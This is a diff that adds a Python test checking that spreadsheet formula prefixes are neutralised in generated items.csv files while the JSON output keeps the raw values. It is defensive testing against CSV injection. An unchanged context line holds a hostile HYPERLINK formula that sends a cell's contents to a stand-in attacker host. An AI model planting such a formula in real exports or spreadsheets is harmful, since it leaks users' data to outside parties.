@@ -145,6 +145,16 @@ def test_spreadsheet_formulas_are_neutralised_in_csv(hostile_output: Path) -> No
     assert "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")" in names
 
 
+def test_spreadsheet_formulas_are_neutralised_in_the_items_csv(hostile_output: Path) -> None:
+    for path in (hostile_output / "data" / "items.csv", hostile_output / "data" / "2026-11" / "items.csv"):
+        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path
+        assert {"'=1+1 公式", "'@SUM(A1)", "'-1 元", "'+SUM(1,2)"} <= set(cells), path
+    items = json.loads((hostile_output / "data" / "items.json").read_text("utf-8"))
+    assert {"=1+1 公式", "@SUM(A1)"} <= {value for item in items for value in item.values()}
+
+
 def test_feed_and_sitemap_are_well_formed_with_hostile_titles(hostile_output: Path) -> None:
     import xml.etree.ElementTree as ET
 
